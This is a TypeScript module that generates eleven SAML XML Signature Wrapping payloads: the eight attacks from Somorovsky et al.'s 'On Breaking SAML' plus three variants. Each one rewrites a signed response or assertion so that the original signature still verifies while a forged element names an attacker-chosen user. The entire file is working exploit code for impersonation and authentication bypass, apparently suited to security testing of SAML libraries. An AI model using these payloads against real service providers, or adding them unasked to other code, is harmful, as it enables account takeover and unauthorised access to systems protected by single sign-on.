/** Signed XML, moved about so that its signature still verifies while another element says who somebody is. */
export interface Wrapped {
  readonly name: string;
  readonly xml: string;
}

const ASSERTION = /<saml:Assertion\b[\s\S]*<\/saml:Assertion>/;
const SIGNATURE = /<ds:Signature\b[\s\S]*?<\/ds:Signature>/;
const END = '</samlp:Response>';

const pick = (pattern: RegExp, xml: string): string => {
  const found = pattern.exec(xml)?.[0];
  if (found === undefined) throw new Error(`nothing matches ${pattern}`);
  return found;
};

/** What the text says, said of another. */
const forge = (xml: string, from: string, to: string): string => xml.replaceAll(from, to);
const renamed = (xml: string): string => xml.replace(/\bID="[^"]*"/, 'ID="_evil"');
const inside = (signature: string, content: string): string =>
  signature.replace('</ds:Signature>', `<ds:Object>${content}</ds:Object></ds:Signature>`);

/**
 * The eight ways of "On Breaking SAML: Be Whoever You Want to Be" (Somorovsky et al., USENIX Security 2012), two over a
 * signed response and six over a signed assertion.
 *
 * @param response of which the response alone is signed
 * @param assertion of which the assertion alone is signed
 * @param from the name that is signed
 * @param to the name that the attacker wants
 */
export function wrapSignatures(response: string, assertion: string, from: string, to: string): readonly Wrapped[] {
  const ofResponse = pick(SIGNATURE, response);
  const bareResponse = response.replace(ofResponse, '');
  const evilResponse = renamed(forge(bareResponse, from, to));
  const [evilStart, evilRest] = [
    evilResponse.slice(0, evilResponse.indexOf('>') + 1),
    evilResponse.slice(evilResponse.indexOf('>') + 1),
  ];

  const signed = pick(ASSERTION, assertion);
  const ofAssertion = pick(SIGNATURE, signed);
  const bare = signed.replace(ofAssertion, '');
  const evil = renamed(forge(bare, from, to));
  const put = (content: string) => assertion.replace(signed, () => content);
  const within = (outer: string, content: string) => outer.replace('</saml:Issuer>', `</saml:Issuer>${content}`);
  const after = (outer: string, content: string) => outer.replace('</saml:Assertion>', `${content}</saml:Assertion>`);
  const sameId = forge(bare, from, to);

  return [
    {
      name: '1: a signed response inside the signature of a forged one',
      xml: `${evilStart}${evilRest.replace('</saml:Issuer>', `</saml:Issuer>${inside(ofResponse, bareResponse)}`)}`,
    },
    {
      name: '2: a signed response before its signature, in a forged one',
      xml: `${evilStart}${evilRest.replace('</saml:Issuer>', `</saml:Issuer>${bareResponse}${ofResponse}`)}`,
    },
    { name: '3: a forged assertion before the signed one', xml: put(`${evil}${signed}`) },
    { name: '4: the signed assertion inside a forged one', xml: put(after(evil, signed)) },
    {
      name: '5: the signature in a forged assertion, the signed one behind it',
      xml: put(`${within(evil, ofAssertion)}${bare}`),
    },
    {
      name: '6: the signed assertion inside the signature of a forged one',
      xml: put(within(evil, inside(ofAssertion, bare))),
    },
    {
      name: '7: a forged assertion in an extension, under the same id',
      xml: put(`<samlp:Extensions>${sameId}</samlp:Extensions>${signed}`),
    },
    {
      name: '8: the signed assertion as an object of the signature, under the same id',
      xml: put(within(sameId, inside(ofAssertion, bare))),
    },
    { name: 'a forged assertion behind the signed one', xml: assertion.replace(END, `${evil}${END}`) },
    { name: 'a forged assertion that borrows the signature', xml: put(within(sameId, ofAssertion)) },
    {
      name: 'a signed assertion hidden in an extension, and a forged one in its place',
      xml: put(`<samlp:Extensions>${signed}</samlp:Extensions>${evil}`),
    },
  ];
}
